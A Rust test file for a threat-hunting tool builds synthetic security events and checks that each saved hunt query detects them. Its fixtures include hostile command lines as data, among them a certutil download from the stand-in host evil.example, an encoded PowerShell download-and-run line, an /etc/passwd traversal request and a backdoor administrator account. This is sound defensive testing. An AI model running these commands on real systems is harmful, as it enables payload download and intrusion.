//! Every saved hunt over a small lake in which each of them has something to find.
#![allow(clippy::too_many_lines, clippy::type_complexity)] // One table of evidence, told once.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use std::collections::BTreeMap;

use common::{Made, finding, lake, open};
use hunt::{Between, SavedHunt};
use model::Level;

/// The content of the repository.
fn saved() -> BTreeMap<String, SavedHunt> {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content/hunts");
    let mut hunts = BTreeMap::new();
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        let path = entry.path();
        let text = std::fs::read_to_string(&path).unwrap();
        let hunt = SavedHunt::read(path.to_str().unwrap(), &text).unwrap();
        assert!(hunt.explanation.len() > 80, "{} explains too little", hunt.name);
        assert!(hunt.title.len() < 80, "{} has a long title", hunt.name);
        assert!(!hunt.techniques.is_empty(), "{} names no technique", hunt.name);
        hunts.insert(hunt.name.clone(), hunt);
    }
    hunts
}

fn at(minutes: i64) -> String {
    let start = common::time("2026-11-22T00:00:00Z").0;
    model::Micros(start + minutes * 60_000_000).to_string()
}

fn logon(minutes: i64, user: &str, from: &str, status: i64) -> Made {
    Made::new("authentication", "Logon", &at(minutes))
        .text("user.name", user)
        .text("src_endpoint.ip", from)
        .int("status_id", status)
}

fn process(minutes: i64, parent: &str, path: &str, line: &str) -> Made {
    let name = |path: &str| path.rsplit(['\\', '/']).next().unwrap_or(path).to_owned();
    Made::new("process_activity", "Launch", &at(minutes))
        .text("device.hostname", "ws-1")
        .text("actor.user.name", "anna")
        .text("process.parent_process.name", &name(parent))
        .text("process.file.path", path)
        .text("process.name", &name(path))
        .text("process.cmd_line", line)
        .text("process.file.hashes[sha-256].value", &format!("{:064x}", path.len()))
}

fn connection(seconds: i64, from: &str, to: &str, port: i64, out: i64) -> Made {
    let start = common::time("2026-11-22T00:00:00Z").0;
    let time = model::Micros(start + seconds * 1_000_000).to_string();
    Made::new("network_activity", "Traffic", &time)
        .text("src_endpoint.ip", from)
        .text("dst_endpoint.ip", to)
        .int("dst_endpoint.port", port)
        .int("traffic.bytes_out", out)
        .int("traffic.bytes_in", 10)
        .int("duration", 1_000)
}

fn query(minutes: i64, from: &str, name: &str, code: &str) -> Made {
    Made::new("dns_activity", "Query", &at(minutes))
        .text("src_endpoint.ip", from)
        .text("query.hostname", name)
        .text("rcode", code)
}

fn request(minutes: i64, from: &str, method: &str, path: &str, code: i64, agent: &str) -> Made {
    Made::new("http_activity", "Get", &at(minutes))
        .text("src_endpoint.ip", from)
        .text("http_request.http_method", method)
        .text("http_request.url.hostname", "www.example.com")
        .text("http_request.url.path", path)
        .text("http_request.url.url_string", &format!("https://www.example.com{path}"))
        .text("http_request.user_agent", agent)
        .int("http_response.code", code)
}

fn call(minutes: i64, who: &str, operation: &str, error: Option<&str>) -> Made {
    let made = Made::new("api_activity", "Read", &at(minutes))
        .text("actor.user.name", who)
        .text("api.service.name", "iam.amazonaws.com")
        .text("api.operation", operation)
        .text("src_endpoint.ip", "203.0.113.9");
    match error {
        Some(error) => made.text("api.response.error", error).int("status_id", 2),
        None => made.int("status_id", 1),
    }
}

/// A day in which each hunt finds what it looks for, and something that it must not find.
fn story() -> Vec<Made> {
    let mut all = Vec::new();
    for n in 0..12 {
        all.push(logon(600 + n, &format!("user{n}"), "203.0.113.7", 2));
    }
    all.push(logon(620, "user3", "203.0.113.7", 1));
    for n in 0..6 {
        all.push(logon(700 + n, "carla", "198.51.100.4", 2));
    }
    all.push(logon(710, "carla", "198.51.100.4", 1));
    all.push(logon(120, "night.owl", "10.0.0.8", 1));
    all.push(logon(720, "ben", "10.0.0.9", 1).text("src_endpoint.location.country", "CH"));
    all.push(logon(780, "ben", "198.51.100.77", 1).text("src_endpoint.location.country", "BR"));
    let mut alone = logon(800, "dora", "10.0.0.10", 1);
    alone.fields.push(("is_mfa", ocsf::Scalar::Bool(false)));
    all.push(alone);

    all.push(process(
        60,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoP -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA",
    ));
    all.push(process(
        61,
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\certutil.exe",
        "certutil -urlcache -split -f http://evil.example/a.bin a.exe",
    ));
    all.push(process(
        62,
        r"C:\Program Files\Microsoft Office\WINWORD.EXE",
        r"C:\Windows\System32\cmd.exe",
        "cmd.exe /c whoami",
    ));
    all.push(process(
        63,
        r"C:\Windows\explorer.exe",
        r"C:\Users\Public\svchost.exe",
        "svchost.exe",
    ));
    for n in 0..5 {
        all.push(process(
            64 + n,
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\System32\svchost.exe",
            "svchost.exe -k netsvcs",
        ));
    }
    all.push(
        Made::new("windows_service_activity", "Create", &at(70))
            .text("device.hostname", "ws-1")
            .text("win_service.cmd_line", r"C:\Users\Public\svchost.exe"),
    );
    all.push(
        Made::new("scheduled_job_activity", "Create", &at(71))
            .text("device.hostname", "ws-1")
            .text("job.name", r"\Updater")
            .text("job.cmd_line", "powershell -w hidden"),
    );
    all.push(
        Made::new("event_log_actvity", "Clear", &at(90))
            .text("device.hostname", "ws-1")
            .text("log_name", "Security"),
    );

    for n in 0..40 {
        all.push(connection(n * 60 + n % 2, "10.0.0.8", "203.0.113.50", 443, 500));
    }
    for n in 0..12 {
        all.push(connection(n, "10.0.0.8", &format!("10.0.1.{n}"), 445, 100));
    }
    all.push(connection(500, "10.0.0.8", "203.0.113.60", 443, 900_000_000));
    let mut long = connection(600, "10.0.0.8", "203.0.113.61", 22, 100);
    long.fields.retain(|(path, _)| *path != "duration");
    all.push(long.int("duration", 3 * 3_600_000));

    for n in 0..60 {
        all.push(query(n, "10.0.0.8", &format!("{:032x}.t.tunnel.example", n * 7_919), "NOERROR"));
    }
    for n in 0..25 {
        all.push(query(n, "10.0.0.9", &format!("xk{n}qz.com"), "NXDOMAIN"));
    }
    for n in 0..12 {
        all.push(query(n * 60, "10.0.0.9", "only.mine.org", "NOERROR"));
    }

    for n in 0..25 {
        all.push(request(n, "203.0.113.8", "GET", &format!("/admin{n}.bak"), 404, "nikto/2.5"));
    }
    all.push(request(30, "203.0.113.8", "GET", "/backup.zip", 200, "nikto/2.5"));
    all.push(request(31, "203.0.113.8", "POST", "/uploads/x.php", 200, "curl/8.0"));
    all.push(request(32, "203.0.113.8", "GET", "/?f=../../../../etc/passwd", 200, "curl/8.0"));

    for (n, operation) in
        ["ListUsers", "ListRoles", "GetUser", "ListKeys", "CreateUser"].iter().enumerate()
    {
        all.push(call(n as i64, "mallory", operation, Some("AccessDenied")));
    }
    all.push(call(100, "mallory", "AttachUserPolicy", None));
    all.push(
        Made::new("account_change", "Create", &at(101))
            .text("actor.user.name", "mallory")
            .text("user.name", "backdoor"),
    );
    all.push(
        Made::new("group_management", "Add User", &at(102))
            .text("actor.user.name", "mallory")
            .text("user.name", "backdoor")
            .text("group.name", "Administrators"),
    );
    all
}

/// Hunt, values, and something that its answer holds; `rows` where their number is certain.
#[rustfmt::skip]
const EXPECTED: &[(&str, &[(&str, &str)], Option<usize>, &str)] = &[
    ("accounts-made-and-raised", &[], Some(2), "backdoor"),
    ("around-a-finding", &[("finding", "$finding")], None, "certutil"),
    ("attack-strings", &[], Some(1), "etc/passwd"),
    ("borrowed-names", &[], Some(1), r"Public\\svchost.exe"),
    ("cleared-logs", &[], Some(1), "Security"),
    ("dns-tunnels", &[], Some(1), "tunnel.example"),
    ("downloads-by-own-tools", &[], Some(1), "hxxp://evil[.]example/a[.]bin"),
    ("encoded-powershell", &[], Some(1), "iex (iwr http://x)"),
    ("failing-names", &[], Some(1), "10.0.0.9"),
    ("first-api-calls", &[], Some(5), "AttachUserPolicy"),
    ("guessed-password", &[], Some(1), "carla"),
    ("large-uploads", &[], Some(1), "203.0.113.60"),
    ("logons-outside-hours", &[], None, "night.owl"),
    ("logons-without-second-factor", &[], Some(1), "dora"),
    ("lonely-domains", &[], None, "mine.org"),
    ("long-connections", &[], Some(1), "203.0.113.61"),
    ("new-addresses-of-users", &[], Some(1), "198.51.100.77"),
    ("new-persistence", &[], Some(2), "Updater"),
    ("noisy-rules", &[], Some(1), "A rule"),
    ("odd-program-folders", &[], Some(1), r"Public\\svchost.exe"),
    ("odd-user-agents", &[], None, "nikto"),
    ("office-starts-a-shell", &[], Some(1), "whoami"),
    ("password-spray", &[], Some(1), "203.0.113.7"),
    ("rare-parents", &[], None, "WINWORD.EXE"),
    ("rare-programs", &[], None, "certutil"),
    ("refused-api-calls", &[], Some(1), "mallory"),
    ("regular-callers", &[], Some(1), "203.0.113.50"),
    ("spreading-out", &[], Some(1), "445"),
    ("two-countries", &[], Some(1), "ben"),
    ("web-scanners", &[], Some(1), "/backup.zip"),
    ("web-shells", &[], Some(1), "/uploads/x.php"),
    ("where-is", &[("indicator", "203.0.113[.]8")], Some(1), "HTTP Activity"),
];

#[tokio::test]
async fn every_hunt_finds_what_it_looks_for() {
    let hunts = saved();
    assert!(hunts.len() >= 20);
    let listed: Vec<_> = EXPECTED.iter().map(|row| row.0.to_owned()).collect();
    assert_eq!(hunts.keys().cloned().collect::<Vec<_>>(), listed, "each hunt has a row here");
    let events = story();
    let certutil = events.iter().position(|made| {
        made.fields
            .iter()
            .any(|(_, value)| value.as_str().is_some_and(|t| t.starts_with("certutil")))
    });
    let made = finding("A rule", Level::High, certutil.unwrap(), &at(61));
    let finding_id = made.finding_id.to_string();
    let (_dir, lake) = lake(events, &[made]).await;
    let engine = open(&lake).await;
    for (name, given, rows, holds) in EXPECTED {
        let hunt = &hunts[*name];
        let given: Vec<_> = given
            .iter()
            .map(|(key, value)| ((*key).to_owned(), value.replace("$finding", &finding_id)))
            .collect();
        let values = hunt.values(&given).unwrap();
        let answer = engine.query_with(&hunt.sql, &values, Between::default()).await;
        let mut answer =
            answer.unwrap_or_else(|error| panic!("{name}: {}", error.render(&hunt.sql)));
        let mut out = Vec::new();
        hunt::write(hunt::Form::Ndjson, &mut answer, &mut out, hunt::TableStyle::default())
            .await
            .unwrap_or_else(|error| panic!("{name}: {}", error.render(&hunt.sql)));
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains(holds), "{name} does not tell of {holds}:\n{text}");
        if let Some(rows) = rows {
            assert_eq!(text.lines().count(), *rows, "{name}:\n{text}");
        }
    }
}

#[tokio::test]
async fn every_hunt_runs_over_an_empty_lake() {
    let dir = tempfile::tempdir().unwrap();
    let lake = lake::Lake::open(dir.path().to_str().unwrap()).unwrap();
    let engine = open(&lake).await;
    for (name, hunt) in saved() {
        let given: Vec<_> = hunt
            .parameters
            .iter()
            .filter(|parameter| parameter.default.is_none())
            .map(|parameter| (parameter.name.clone(), "nothing".to_owned()))
            .collect();
        let values = hunt.values(&given).unwrap();
        let answer = engine.query_with(&hunt.sql, &values, Between::default()).await;
        let answer = answer.unwrap_or_else(|error| panic!("{name}: {}", error.render(&hunt.sql)));
        let batches = answer.collect().await.unwrap_or_else(|error| panic!("{name}: {error}"));
        assert_eq!(
            batches.iter().map(arrow::record_batch::RecordBatch::num_rows).sum::<usize>(),
            0,
            "{name}"
        );
    }
}
